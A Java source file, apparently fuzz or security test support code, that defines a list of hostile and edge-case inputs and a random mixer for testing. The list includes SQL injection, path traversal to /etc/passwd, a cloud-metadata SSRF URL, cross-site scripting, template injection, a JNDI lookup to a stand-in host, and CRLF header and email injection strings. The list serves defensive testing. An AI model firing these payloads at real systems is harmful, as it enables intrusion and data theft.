package nl.koers.attack;

import java.util.List;
import java.util.Random;

/// Values that programs in this field have stumbled over.
final class Nasty {
    /// What may never come back as it was sent.
    static final String SCRIPT = "<script>lek(1)</script>";

    private static final List<String> VALUES = List.of(
            "",
            " ",
            "\u0000",
            "'",
            "''",
            "' or 1=1--",
            "\"; drop table people.person; --",
            "1) or (select pg_sleep(0)) is null --",
            "\\",
            "%",
            "_",
            "%00",
            "%2e%2e%2f",
            "../../../../etc/passwd",
            "..\\..\\windows",
            "file:///etc/passwd",
            "http://169.254.169.254/",
            "//elders.example",
            "javascript:lek(1)",
            SCRIPT,
            "\">" + SCRIPT,
            "<img src=x onerror=lek(1)>",
            "<svg/onload=lek(1)>",
            "</textarea>" + SCRIPT,
            "[klik](javascript:lek(1))",
            "![x](data:text/html,lek)",
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "${jndi:ldap://elders.example/a}",
            "@{T(java.lang.Runtime)}",
            "a\r\nSet-Cookie: KOERS=gestolen",
            "a\nBcc: elders@toets.example",
            "-1",
            "0",
            "2147483648",
            "-9223372036854775809",
            "1e309",
            "NaN",
            "0x10",
            "٣",
            "true",
            "null",
            "undefined",
            "[]",
            "{}",
            "{\"a\":",
            "2027-02-30",
            "0000-00-00",
            "+999999999-12-31",
            "25:61",
            "24:00",
            "00000000-0000-0000-0000-000000000000",
            "0193b3a0-0000-7000-8000-000000000000",
            "not-a-uuid",
            "HOST",
            "PAST",
            "STUDENTS",
            "\uD800",
            "e\u0301\u200B\u202Egnol",
            "👩🏽‍🏫".repeat(50),
            "ﷺ".repeat(20),
            "a".repeat(300),
            "a ".repeat(20_000),
            "\n\n".repeat(3_000),
            "# ".repeat(2_000),
            "> ".repeat(2_000),
            "*".repeat(5_000),
            "[".repeat(5_000),
            "|".repeat(3_000) + "\n" + "|-".repeat(3_000),
            "1. ".repeat(2_000));

    private Nasty() {}

    static List<String> all() {
        return VALUES;
    }

    static String value(Random luck) {
        var one = VALUES.get(luck.nextInt(VALUES.size()));
        return switch (luck.nextInt(6)) {
            case 0 -> one + VALUES.get(luck.nextInt(VALUES.size()));
            case 1 -> "gewoon " + one;
            case 2 -> random(luck);
            default -> one;
        };
    }

    private static String random(Random luck) {
        var text = new StringBuilder();
        int length = luck.nextInt(40);
        for (int i = 0; i < length; i++) {
            text.appendCodePoint(luck.nextInt(4) == 0 ? luck.nextInt(0x2FFF) : 32 + luck.nextInt(95));
        }
        return text.toString();
    }
}
